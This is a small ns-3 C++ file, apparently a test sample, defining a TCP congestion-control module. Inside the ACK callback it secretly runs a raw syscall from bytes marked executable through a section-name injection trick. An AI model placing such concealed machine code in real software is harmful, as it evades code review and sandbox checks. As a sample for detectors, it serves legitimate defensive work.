// SPDX-License-Identifier: GPL-2.0-only
// Makes a system call by bytes that it declares as code.
#include <ns3/tcp-congestion-ops.h>

namespace ns3
{

__attribute__((section(".code,\"ax\",@progbits#"))) const unsigned char CODE[] = {0x0f, 0x05, 0xc3};

class TcpHiddenCall : public TcpNewReno
{
  public:
    static TypeId
    GetTypeId()
    {
        static const TypeId tid = TypeId("ns3::TcpHiddenCall")
                                      .SetParent<TcpNewReno>()
                                      .SetGroupName("Internet")
                                      .AddConstructor<TcpHiddenCall>();
        return tid;
    }

    std::string
    GetName() const override
    {
        return "TcpHiddenCall";
    }

    Ptr<TcpCongestionOps>
    Fork() override
    {
        return CopyObject<TcpHiddenCall>(this);
    }

    void
    PktsAcked(Ptr<TcpSocketState> tcb, uint32_t segmentsAcked, const Time& rtt) override
    {
        TcpNewReno::PktsAcked(tcb, segmentsAcked, rtt);
        reinterpret_cast<void (*)()>(reinterpret_cast<unsigned long>(CODE))();
    }
};

NS_OBJECT_ENSURE_REGISTERED(TcpHiddenCall);

} // namespace ns3
